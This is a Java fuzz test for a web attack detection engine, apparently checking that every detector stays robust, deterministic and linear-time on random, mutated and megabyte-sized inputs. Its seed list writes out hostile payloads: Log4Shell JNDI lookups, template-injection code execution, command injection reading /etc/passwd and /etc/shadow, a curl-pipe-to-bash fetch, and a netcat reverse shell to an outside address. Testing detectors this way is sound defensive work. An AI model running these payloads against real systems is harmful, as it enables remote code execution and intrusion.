package ai.traceable.tme.engine.detect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import ai.traceable.tme.engine.decode.Decoding;
import ai.traceable.tme.engine.detect.DetectorHarness.Finding;
import ai.traceable.tme.engine.inspect.Inspected;
import ai.traceable.tme.engine.inspect.Placement;
import ai.traceable.tme.fuzzing.FuzzInputs;
import com.code_intelligence.jazzer.junit.FuzzTest;
import java.lang.reflect.Method;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The fuzz test of every shipped detector: random and mutated values, with fixed seeds, must never
 * make a detector throw, must only yield rules of its table with short snippets, and must give the
 * same findings when inspected again; megabyte values built from the syntax each detector reacts to
 * must finish in bounded work (for detectors that count their steps) and bounded time.
 *
 * <p>The same properties are a coverage-guided Jazzer target, {@link #detectorsAcceptAnyValue}: in
 * the test run it replays the committed inputs and a few thousand fixed-seed mutations of them;
 * {@code tme/fuzz.sh DetectorsFuzzTest detectorsAcceptAnyValue} fuzzes it (docs/testing.md).
 *
 * <p>Mutations start from every attack row of every detector's table test (found by name: {@code
 * <Detector>Test}) and from a few hand-picked payloads, so a new detector and its table test are
 * fuzzed without touching this class.
 */
class DetectorsFuzzTest {
  private static final long SEED = 20240501L;
  private static final int VALUES_PER_DETECTOR = 20_000;

  /** Characters random values are drawn from: SQL, markup and path syntax among letters. */
  private static final String[] ALPHABETS = {
    "'\"`;()=-#/*|&<>@!~:.,+ \t\n0123456789xabORANDunionSELECTsleep\u00a0\ufffd",
    "<>/=\"'` \t\n(){}[];:.,+-!?&#%$\\aejlnorstvxyACS01\u0000\u00e9\uff1c\ud800",
    "./\\:%$[]{}<>!&;\"' -_0123456789abcdefxu@#=?\n\u2215\uff0e"
  };

  /** Field names that steer detectors (URL parameters, headers they read). */
  private static final String[] NAMES = {"v", "url", "host", "file", "user-agent", "referer"};

  /** Payloads worth mutating besides the table rows (the seeds of the earlier fuzz tests). */
  private static final List<String> EXTRA_SEEDS =
      List.of(
          "/home\r\nSet-Cookie: a=b",
          "x\nLocation: http://evil/",
          "a\r\n\r\n<script>alert(1)</script>",
          "\u560a\u560dSet-Cookie: a=b",
          "a@b.c\r\nBcc: x@y.z",
          "/x\nHTTP/1.1 200 OK",
          "Address: 5 Main St\nCity: X",
          "${jndi:ldap://x.example/a}",
          "${${lower:j}ndi:${lower:l}dap://x/}",
          "${${::-j}${::-n}${::-d}${::-i}:rmi://x/}",
          "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/}",
          "${${base64:JHtqbmRpOmxkYXA6Ly94L2F9}}",
          "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/}",
          "${env:USER}",
          "${date:'j'}",
          "{{7*7}}",
          "{{''.__class__.__mro__[1].__subclasses__()}}",
          "${T(java.lang.Runtime).getRuntime().exec('id')}",
          "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
          "#set($x=$class.inspect(\"java.lang.Runtime\"))",
          "{{config.items()}}",
          "<%= system('id') %>",
          "@(7*7)",
          "{php}system('id');{/php}",
          "{{_self.env.getFilter('id')}}",
          "Hello {{name}} {% if x %}y{% endif %}",
          "127.0.0.1; cat /etc/passwd",
          "$(curl http://198.51.100.4/s.sh | bash)",
          "x`id`",
          ";cat${IFS}/etc/shadow",
          "8.8.4.4;c'a't /e't'c/p'a'sswd",
          ";/???/?at /???/??ss??",
          "() { :; }; /bin/cat /etc/passwd",
          "host|nc -e /bin/bash 198.51.100.9 9001",
          "__import__('os').system('id')",
          "eval($_POST['cmd'])",
          "require('child_process').exec('id')",
          "& powershell -nop -enc SQBFAFgA",
          "{ls,-la,/}",
          "Runtime.getRuntime().exec(\"id\")",
          "%x(id)",
          "a | type C:\\Windows\\win.ini",
          "../../etc/passwd",
          "http://[::1]/",
          "<!DOCTYPE x [<!ENTITY",
          "a[$ne]=1",
          "http://0x7f.1/");

  /** Units repeated to a megabyte: the syntax each detector looks for, where work could pile up. */
  private static final List<String> UNITS =
      List.of(
          "${",
          "$(",
          "{{",
          "\n",
          "\r\n",
          "{%",
          "<%",
          "#set(",
          "__class__",
          "${j",
          "${${lower:j}",
          "${::-",
          "}",
          "{{7*7",
          "x ",
          "%0d%0a",
          "\u560a",
          "`",
          ";id",
          "|",
          "&&",
          "{a,",
          "/???/",
          "$IFS",
          "c'a't ",
          "system('",
          "() {",
          "\\a",
          "%x(",
          "; cat /etc/passwd ",
          "eval('",
          "child_process",
          "a;",
          "<",
          "<a ",
          "\"",
          "'",
          "<a b=\"",
          "</",
          "<!--",
          "(",
          ":",
          "javascript:",
          "on",
          " onload=",
          " onload=\"",
          "'-",
          "';",
          "<script>",
          "<svg/",
          "=",
          "url(",
          "expression(",
          "a.",
          "{{a.b.c.d.e.f.g",
          "';a.b.c.d.e.f",
          "jav\tascript:",
          "<a href=",
          "\\",
          "/*(",
          "+ADw",
          "&{",
          "<a title=\"<b onclick=",
          "style=\"-moz-binding:url(",
          "/*",
          "' OR ",
          "/*!",
          "-- \n",
          "1=1 OR ",
          "../",
          "http://",
          "<!ENTITY a \"&b;&b;\">");

  /** A URL-like place, a body and the path: the placements detectors branch on. */
  private static final Placement[] MEGABYTE_PLACEMENTS = {
    Placement.QUERY, Placement.JSON, Placement.PATH
  };

  /** Steps per character a counting detector may take; linear, with room for several passes. */
  private static final Map<AttackClass, Long> STEPS_PER_CHAR = Map.of(AttackClass.XSS, 40L);

  private static final long DEFAULT_STEPS_PER_CHAR = 64;

  /** Wall-clock time one megabyte value may take: generous, a quadratic scan takes minutes. */
  private static final long MEGABYTE_NANOS = 3_000_000_000L;

  private static final List<Detector> DETECTORS = Detectors.all();

  /**
   * Every detector on one value whose placement the first byte picks: never throws, reports only
   * the detector's own rules with a short snippet, and reports the same again.
   */
  @FuzzTest
  void detectorsAcceptAnyValue(byte[] data) {
    check(data);
  }

  @Test
  void survivesFixedSeedMutations() {
    FuzzInputs.fixedSeedRun(getClass(), "detectorsAcceptAnyValue", 2000, DetectorsFuzzTest::check);
  }

  static void check(byte[] data) {
    if (data.length == 0) {
      return;
    }
    String raw = FuzzInputs.text(data, 1, data[0]);
    Placement[] placements = Placement.values();
    Placement placement = placements[(data[0] & 0xff) % placements.length];
    Inspected value = new Inspected(placement, "p", raw, Decoding.decode(raw, false));
    for (Detector detector : DETECTORS) {
      List<DetectionRule> rules = detector.rules();
      List<Finding> found = inspect(detector, value);
      assertThat(found.isEmpty() || DetectorHarness.gateOpens(detector, value))
          .as("%s behind the shut gate on %s", found, value)
          .isTrue();
      for (Finding f : found) {
        assertThat(rules).as("%s on %s", f, value).contains(f.rule());
        assertThat(f.snippet()).isNotNull();
      }
      assertThat(inspect(detector, value)).as("again on %s", value).isEqualTo(found);
    }
  }

  static Stream<Detector> detectors() {
    return Detectors.all().stream();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("detectors")
  void randomAndMutatedValuesNeverThrowAndGiveTheSameDeclaredFindingsAgain(Detector detector) {
    Random random = new Random(SEED + detector.attackClass().ordinal());
    Set<DetectionRule> declared = Set.copyOf(detector.rules());
    List<String> seeds = seeds();
    Placement[] placements = Placement.values();
    for (int i = 0; i < VALUES_PER_DETECTOR; i++) {
      Placement p = placements[random.nextInt(placements.length)];
      String name = NAMES[random.nextInt(NAMES.length)];
      Inspected value =
          switch (i % 4) {
            case 0 -> asIs(p, name, DetectorHarness.randomText(random, 120));
            case 1 -> asIs(p, name, randomText(random, ALPHABETS[random.nextInt(3)]));
            default ->
                DetectorHarness.value(
                    p,
                    name,
                    DetectorHarness.mutate(random, seeds.get(random.nextInt(seeds.size()))));
          };
      List<Finding> found = inspect(detector, value);
      assertThat(found.isEmpty() || DetectorHarness.gateOpens(detector, value))
          .as("%s behind the shut gate on %s", found, value)
          .isTrue();
      for (Finding f : found) {
        assertThat(declared).as("%s on %s", f, value).contains(f.rule());
        assertThat(f.snippet().length()).as("%s on %s", f, value).isLessThanOrEqualTo(64);
      }
      Inspected again =
          new Inspected(value.placement(), value.name(), value.raw(), value.decoded());
      assertThat(inspect(detector, again)).as("again on %s", value).isEqualTo(found);
    }
  }

  static Stream<Arguments> megabyteValues() {
    return Detectors.all().stream().flatMap(d -> UNITS.stream().map(u -> Arguments.of(d, u)));
  }

  @ParameterizedTest(name = "{0} on {1} repeated to 1 MiB")
  @MethodSource("megabyteValues")
  void megabyteValuesTakeLinearWorkAndBoundedTime(Detector detector, String unit) {
    String s = DetectorHarness.repeat(unit, 1 << 20);
    long perChar = STEPS_PER_CHAR.getOrDefault(detector.attackClass(), DEFAULT_STEPS_PER_CHAR);
    for (Placement p : MEGABYTE_PLACEMENTS) {
      Inspected value = new Inspected(p, "url", s, s);
      long start = System.nanoTime();
      long[] work = {0};
      assertThatCode(() -> work[0] = detector.inspectCounting(value, (r, snippet) -> {}))
          .as("%s %s", unit, p)
          .doesNotThrowAnyException();
      long nanos = System.nanoTime() - start;
      assertThat(work[0]).as("%s %s", unit, p).isLessThanOrEqualTo(perChar * s.length());
      assertThat(nanos).as("%s %s", unit, p).isLessThan(MEGABYTE_NANOS);
    }
  }

  private static Inspected asIs(Placement placement, String name, String s) {
    return new Inspected(placement, name, s, s);
  }

  private static List<Finding> inspect(Detector detector, Inspected value) {
    List<Finding> found = new ArrayList<>();
    assertThatCode(() -> detector.inspect(value, (r, s) -> found.add(new Finding(r, s))))
        .as("%s", value)
        .doesNotThrowAnyException();
    return found;
  }

  /** Up to 80 characters of {@code alphabet}, one in sixteen any UTF-16 unit at all. */
  private static String randomText(Random random, String alphabet) {
    int length = random.nextInt(80);
    StringBuilder b = new StringBuilder(length);
    for (int i = 0; i < length; i++) {
      b.append(
          random.nextInt(16) == 0
              ? (char) random.nextInt(0x10000)
              : alphabet.charAt(random.nextInt(alphabet.length())));
    }
    return b.toString();
  }

  /**
   * The raw values of every table row of every detector's table test (for request tables, the
   * request target and body), and the extra seeds.
   */
  static List<String> seeds() {
    Set<String> seeds = new LinkedHashSet<>(EXTRA_SEEDS);
    for (Detector d : Detectors.all()) {
      for (String source : new String[] {"attacks", "benign"}) {
        for (Arguments row : rows(d.getClass().getName() + "Test", source)) {
          Object[] args = row.get();
          if (args.length > 2 && args[2] instanceof String raw) {
            seeds.add(raw);
          } else if (args[0] instanceof RequestTableTest.Row request) {
            seeds.add(request.target());
            seeds.add(request.body());
          }
        }
      }
    }
    return List.copyOf(seeds);
  }

  @SuppressWarnings("unchecked")
  private static List<Arguments> rows(String testClass, String source) {
    try {
      Method m = Class.forName(testClass).getDeclaredMethod(source);
      m.setAccessible(true);
      return ((Stream<Arguments>) m.invoke(null)).toList();
    } catch (ReflectiveOperationException e) {
      throw new AssertionError("every detector has a table test " + testClass, e);
    }
  }
}
